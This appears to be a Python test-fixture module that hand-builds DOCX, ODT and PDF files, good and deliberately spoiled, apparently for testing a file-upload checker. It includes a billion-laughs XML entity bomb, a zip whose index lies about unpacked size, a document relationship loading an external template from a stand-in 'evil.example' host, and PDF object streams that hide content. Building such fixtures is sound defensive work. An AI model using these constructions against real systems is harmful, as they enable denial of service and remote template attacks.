"""Files as people hand them in, made by hand: good ones, and ways to spoil them."""

import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

OFFICE = "http://schemas.openxmlformats.org"
TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="x"><Override PartName="/word/document.xml" ContentType='
         '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>{more}</Types>')
BODY = '<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p>Проект</w:p></w:body></w:document>'
RELATION = ('<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="{kind}" Target="{target}" '
            'TargetMode="External"/></Relationships>')
CONTENT = ('<?xml version="1.0"?><o:document xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:l="http://www.w3.org/1999/xlink" '
           'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0">{more}</o:document>')


def packed(parts, *, method=ZIP_DEFLATED, attributes=None):
    """An archive of (name, content) in their order; `attributes` are the external ones of a name."""
    made = BytesIO()
    with ZipFile(made, "w") as archive:
        for name, content in parts:
            info = ZipInfo(name)
            info.compress_type = ZIP_STORED if name == "mimetype" else method
            info.external_attr = (attributes or {}).get(name, 0)
            archive.writestr(info, content)
    return made.getvalue()


def docx(*more, types="", body=BODY, **how):
    return packed([("[Content_Types].xml", TYPES.format(more=types)), ("word/document.xml", body), *more], **how)


def odt(*more, inside="", kind="application/vnd.oasis.opendocument.text", **how):
    return packed([("mimetype", kind), ("content.xml", CONTENT.format(more=inside)), *more], **how)


def external(kind, target="http://evil.example/t.dotm"):
    return "word/_rels/document.xml.rels", RELATION.format(kind=f"{OFFICE}/officeDocument/2006/relationships/{kind}",
                                                           target=target)


def laughs():
    """Ten names, each ten times the one before: a thousand million laughs."""
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{names}]><x>&l9;</x>'


def lying(content, size):
    """The same archive, whose index says that the second part unpacks to `size`."""
    at = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 4)
    return content[:at + 24] + size.to_bytes(4, "little") + content[at + 28:]


def related(kind, target, mode=""):
    """A part of a document that names another one."""
    told = f' TargetMode="{mode}"' if mode else ""
    return "word/_rels/document.xml.rels", (
        f'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{told}/>'
        "</Relationships>")


def pdf(*objects, more=b""):
    """A PDF of objects, numbered from 1."""
    told = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return b"%PDF-1.7\n" + told + more + b"%%EOF\n"


def stream(content, told=b"/Filter /FlateDecode", pack=zlib.compress):
    made = pack(content)
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (told, len(made), made)


def packed_objects(*objects, told=b"/Type /ObjStm /Filter /FlateDecode", pack=zlib.compress):
    """Objects in a stream, numbered from 11, which only who unpacks them can read."""
    places = [sum(len(one) + 1 for one in objects[:number]) for number in range(len(objects))]
    head = b" ".join(b"%d %d" % (number, place) for number, place in enumerate(places, 11)) + b" "
    return stream(head + b" ".join(objects), told + b" /N %d /First %d" % (len(objects), len(head)), pack)
